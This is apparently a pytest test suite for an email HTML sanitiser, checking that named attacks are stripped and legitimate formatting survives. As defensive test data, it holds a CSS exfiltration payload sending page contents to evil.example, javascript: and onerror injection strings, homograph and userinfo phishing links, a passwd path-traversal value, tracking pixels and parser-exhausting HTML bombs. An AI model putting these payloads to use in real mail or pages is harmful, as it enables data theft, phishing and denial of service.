"""HTML mail made safe to show: named attacks, and what stays of honest mail."""

import re
import time
from html.parser import HTMLParser

import pytest

from madoguchi.mail import html_links, safe_html
from madoguchi.mail.safe_html import (
    MAX_SAFE,
    TAGS,
    has_colours,
    outside_pictures,
    pictures_inside,
    readings,
    with_names,
    with_outside_pictures,
    with_pictures,
)
from madoguchi.mail.tests.attacks import ATTACKS

ATTRIBUTES = set(
    """href title target rel class alt data-inside data-outside width height style dir lang align valign bgcolor color border
    cellpadding cellspacing colspan rowspan start""".split()
)


def made_safe(raw):
    return safe_html.safe_html(raw).html


class Inspector(HTMLParser):
    """Lists everything in a piece of HTML that is not on the list."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.strange, self.text = [], ""

    def handle_starttag(self, tag, attrs):
        self.strange += [tag] if tag not in TAGS else []
        self.strange += [f"{tag} {name}={value}" for name, value in attrs if not is_harmless(tag, name, value or "")]

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.strange.append(f"<!--{data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def is_harmless(tag, name, value):
    if name == "style":
        return not re.search(r"url|image|expression|position|display|font-size|[\\@<>'\"{}]|/\*", value, re.IGNORECASE)
    if name == "href":
        return tag == "a" and value.startswith(("https://", "http://", "mailto:"))
    return name in ATTRIBUTES


def strange_in(html):
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.strange


@pytest.mark.parametrize("name", ATTACKS)
def test_a11_nothing_that_runs_loads_or_covers_stays(name):
    shown = made_safe(ATTACKS[name])
    assert strange_in(shown) == []
    again = made_safe(shown)
    assert strange_in(again) == []


def test_the_list_of_attacks_is_long_and_would_be_noticed():
    assert len(ATTACKS) >= 60
    assert sum(1 for attack in ATTACKS.values() if strange_in(attack)) > 45


def test_a12_no_style_can_tell_what_stands_on_the_page():
    """CSS exfiltration: selectors, fonts, backgrounds and imports that ask a server."""
    raw = (
        '<style>input[value^="a"]{background:url(https://evil.example/a)}@font-face{font-family:x;src:url(https://evil.example/f)}</style>'
        '<link rel=stylesheet href="https://evil.example/c.css"><p style="background:#eee url(https://evil.example/b);color:red;'
        "list-style-image:url('https://evil.example/d');color:\\72 ed;width:calc(1px*attr(x));color:var(--x)\">words</p>"
    )
    assert made_safe(raw) == '<p style="color: red">words</p>'


@pytest.mark.parametrize(
    ("style", "left"),
    [
        ("color:#c00;font-weight:bold", "color: #c00; font-weight: bold"),
        ("COLOR: rgb(1, 2, 3)", "color: rgb(1, 2, 3)"),
        ("border:1px solid #ccc;position:fixed;top:0", "border: 1px solid #ccc"),
        ("font-size:0;display:none;opacity:0;visibility:hidden", ""),
        ("background:URL(https://evil.example)", ""),
        ("background:u\\72l(https://evil.example)", ""),
        ("color:expression(alert(1))", ""),
        ("color:red/**/;-moz-binding:url(x)", ""),
        ('color:red";x="y', ""),
        ("color:windowtext;background:White;font-weight:bold", "font-weight: bold"),
    ],
)
def test_of_a_style_the_harmless_part_stays(style, left):
    shown = made_safe(f"<p style='{style}'>x</p>")
    assert shown == (f'<p style="{left}">x</p>' if left else "<p>x</p>")


def test_hidden_words_are_shown():
    raw = '<div style="display:none;font-size:0;max-height:0">hidden words</div><p hidden>more</p><bdo dir="rtl">reversed</bdo>'
    assert made_safe(raw) == "<div>hidden words</div><p>more</p>reversed"


def test_a_tracking_picture_is_not_kept_and_others_are_not_loaded():
    raw = (
        '<p>hi</p><img src="https://t.example/p.gif" width="1" height="1"><img src="https://t.example/q.gif" style="width:1px">'
        '<img src="https://t.example/r.gif" style="display:none"><img src="http://t.example/s.gif"><img src="//t.example/t.gif">'
        '<img src="https://t.example/shot.png" alt="my screen" srcset="https://t.example/2x.png 2x">'
    )
    safe = safe_html.safe_html(raw)
    assert safe.html == '<p>hi</p><img data-outside="https://t.example/shot.png" alt="my screen">'
    assert (safe.blocked_images, outside_pictures(safe.html)) == (6, 1)
    assert with_outside_pictures(safe.html) == '<p>hi</p><img src="https://t.example/shot.png" alt="my screen">'


def test_words_that_look_like_a_picture_of_ours_stay_words():
    shown = made_safe(
        '<p title="x">&lt;img data-outside="https://t.example/a"&gt; &lt;img data-inside="cid:a"&gt;</p><img alt=\'<img data-outside="b\'>'
    )
    assert outside_pictures(shown) == 0 and with_outside_pictures(shown) == shown and with_pictures(shown, lambda name: ("x", "")) == shown


def test_pictures_of_the_mail_are_placed_by_whoever_knows_them():
    shown = made_safe('<img src="cid:logo@x" alt="a"><img src="CID:../../etc/passwd"><img src="data:image/png;base64,AAAA">')
    assert pictures_inside(shown + shown) == ["cid:logo@x", "CID:../../etc/passwd", "data:image/png;base64,AAAA"]
    named = with_names(shown, lambda address: "one" if address == "cid:logo@x" else "")
    assert named == '<img data-inside="one" alt="a"><img data-inside=""><img data-inside="">'
    placed = with_pictures(named, lambda name: ("data:image/webp;base64,BBBB", "") if name == "one" else ("", "Not <shown>."))
    absent = '<bdi class="absent">Not &lt;shown&gt;.</bdi> <img>'
    assert placed == f'<img src="data:image/webp;base64,BBBB" alt="a">{absent}{absent}'


def test_a_placed_picture_cannot_break_out_of_its_attribute():
    shown = made_safe('<img src="cid:x&quot; onerror=&quot;alert(1)">')
    assert strange_in(shown) == []
    assert with_pictures(shown, lambda name: ('" onerror="alert(1)', "")) == '<img src="&quot; onerror=&quot;alert(1)">'
    assert with_names(shown, lambda address: '" onerror="alert(1)') == '<img data-inside="&quot; onerror=&quot;alert(1)">'


@pytest.mark.parametrize(
    ("words", "target", "shown"),
    [
        ("https://www.exchange.example/login", "https://evil.example/login", "evil.example"),
        ("<b>https://www.exchange.example/</b>", "https://evil.example/login", "evil.example"),
        ("<i>exchange</i>.example", "https://exchange.example.evil.example", "exchange.example.evil.example"),
        ("exchange.example", "https://EVIL.example:8443/?q#f", "evil.example"),
        ("еxchange.example", "https://еxchange.example/", "xn--xchange-6gg.example"),
        ("exchange.example", "https://exchange.example。evil.example/", "exchange.example.evil.example"),
    ],
)
def test_a_link_whose_words_show_another_host_shows_the_true_one(words, target, shown):
    html = made_safe(f'<a href="{target}">{words}</a>')
    assert f"→ {shown}</bdi>" in html and 'rel="noopener noreferrer nofollow ugc"' in html


@pytest.mark.parametrize("words", ["click here", "", '<img src="cid:button">', "exchange.example login"])
def test_every_link_shows_where_it_leads(words):
    assert made_safe(f'x<a href="https://evil.example/a">{words}</a>').endswith('</a><bdi class="target"> → evil.example</bdi>')


@pytest.mark.parametrize(
    ("words", "target"),
    [
        ("https://x.example/a", "https://x.example/a"),
        ("x.example", "https://x.example/b"),
        ("A@x.example", "mailto:a@x.example?body=secret"),
    ],
)
def test_a_link_that_says_where_it_leads_needs_nothing_more(words, target):
    shown = made_safe(f'<a href="{target}">{words}</a>')
    assert "→" not in shown and "secret" not in shown


@pytest.mark.parametrize(
    "target",
    [
        "https://exchange.example@evil.example/", "https://exchange.example\\@evil.example", "https:evil.example", "https:/evil.example", "//evil.example", "/relative",
        "javascript:alert(1)", "java\tscript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>", "vbscript:x", "file:///etc/passwd", "ftp://x.example", "tel:123",
        "https://ev%69l.example/", "https://[::1]/", "cid:x", "https://", "http://\u202eelpmaxe.live/",
    ],
)  # fmt: skip
def test_a_link_that_does_not_say_plainly_where_it_leads_leads_nowhere(target):
    shown = made_safe(f'<a href="{target}">words</a>')
    assert "href" not in shown and "words" in shown


@pytest.mark.parametrize(
    "raw",
    [
        "<div>" * 5_000 + "words",
        "<p>words</p>" * 100_000,
        "x" * 2_500_000,
    ],
)
def test_what_is_too_large_or_too_deep_is_refused(raw):
    assert safe_html.safe_html(raw) == safe_html.SafeHtml("", is_refused=True)


def test_a_picture_in_the_html_does_not_make_it_too_large():
    assert "words" in made_safe(f'<img src="data:image/png;base64,{"A" * 2 * MAX_SAFE}">words')


@pytest.mark.parametrize("raw", ["", "  ", "<p> </p>", '<img src="https://t.example/p.gif" width=1>', "<style>x</style><br>"])
def test_where_nothing_is_to_be_seen_there_is_nothing(raw):
    safe = safe_html.safe_html(raw)
    assert safe.html == "" and not safe.is_refused


@pytest.mark.parametrize(
    "bomb",
    ["<div>" * 20_000, '<a href="' * 50_000, "<b><p>" * 20_000, "&" * 500_000, "<!--" * 50_000, "<table><tr><td>" * 10_000, "<" * 200_000]
    + [
        "<script>" * 50_000,
        "<p style='" + "color:red;" * 100_000 + "'>",
        "<p style='color:" + "rgb(1" * 20_000 + "'>",
        "<a href=https://a.b>" * 900,
    ]
    + [f'<img src="cid:{"x" * 1_000_000}">', '<img style="' + "width:" * 100_000 + '">', f'<a href="https://{"a." * 100_000}">x</a>'],
    ids=range(14),
)
def test_a30_hostile_html_takes_bounded_time(bomb):
    started = time.process_time()
    readings(safe_html.safe_html(bomb).html)
    assert time.process_time() - started < 3


def test_honest_mail_keeps_its_form():
    raw = (
        '<table border="1" bgcolor="#fafafa"><tr><th align="left">日時</th><td colspan="2"><font color="red">2024</font></td></tr></table>'
        "<ul><li>a<ol start='3'><li>b</ol></ul><blockquote>old</blockquote><p dir=rtl lang=ar>نص</p><pre>x\n  y</pre>1 &lt; 2 &amp; 3"
    )
    shown = made_safe(raw)
    kept = 'border="1"|bgcolor="#fafafa"|align="left"|colspan="2"|<font color="red">|start="3"|dir="rtl"|1 &lt; 2 &amp; 3|x\n  y'.split("|")
    assert [one for one in kept if one not in shown] == []
    assert (
        has_colours(shown)
        and not has_colours(made_safe('<p>color= style="color"</p>'))
        and has_colours(made_safe('<p style="color:red">x</p>'))
    )


def test_the_words_are_read_as_shown_as_if_no_tag_stood_between_and_apart():
    shown, joined, apart = readings(
        made_safe('<p>le<b>gal</b></p><div>win&#110;er</div><span>thank</span><span>year</span><img alt="wave" src="cid:a">')
    )
    assert shown.startswith("legal\n\nwinner\nthankyearwave")
    assert joined == "legalwinnerthankyearwave"
    assert apart == "le gal winner thank year wave"


def test_where_links_and_pictures_point_is_read_and_what_we_add_is_not():
    texts = readings(
        made_safe('<a href="https://x.example/?key=abc">one</a><a href="https://y.example">two</a><img src="https://z.example/def">')
    )
    assert texts[0] == "onetwo\nhttps://x.example/?key=abc\nhttps://y.example\nhttps://z.example/def"
    assert texts[1:] == ["onetwo", "one two"]


def test_the_host_of_broken_addresses_is_nothing():
    assert html_links.host_shown("http://[broken") == html_links.host_shown(f"https://{'a' * 64}.example/") == ""
